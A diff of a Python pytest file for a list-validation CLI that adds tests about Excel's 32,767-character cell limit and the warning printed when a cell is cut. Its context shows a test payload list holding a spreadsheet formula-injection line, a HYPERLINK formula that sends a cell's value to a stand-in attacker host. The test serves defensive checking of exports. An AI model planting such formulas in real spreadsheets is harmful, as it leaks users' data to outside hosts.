@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 
-from .conftest import Round, validate
+from .conftest import Round, flat, validate
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&E9,"Bấm vào đây")',
@@ -139,3 +139,12 @@ def test_30_no_cell_or_comment_passes_excel_s_limit(cli: Any, sqlite_round: Roun
         texts = [html.unescape(t) for n in z.namelist() if n.endswith(".xml")
                  for t in re.findall(r"<t[^>]*>([^<]*)</t>", z.read(n).decode("utf-8"))]
     assert max(len(t) for t in texts) <= 32767
+    # the cut is said, with the cell (issue 19: "cut at Excel's 32,767 characters with a finding")
+    said = flat(r.stderr)
+    assert "32.767" in said and "X9" in said and "1.000.000" in said, said
+
+
+def test_30_a_list_within_excel_s_limit_gets_no_cut_warning(cli: Any, sqlite_round: Round) -> None:
+    r = cli(["validate", sqlite_round.lists[0], "--format", "xlsx", "-o", "ket-qua.xlsx"])
+    assert r.exit_code in (0, 1), r.stderr
+    assert "32.767" not in flat(r.stderr)
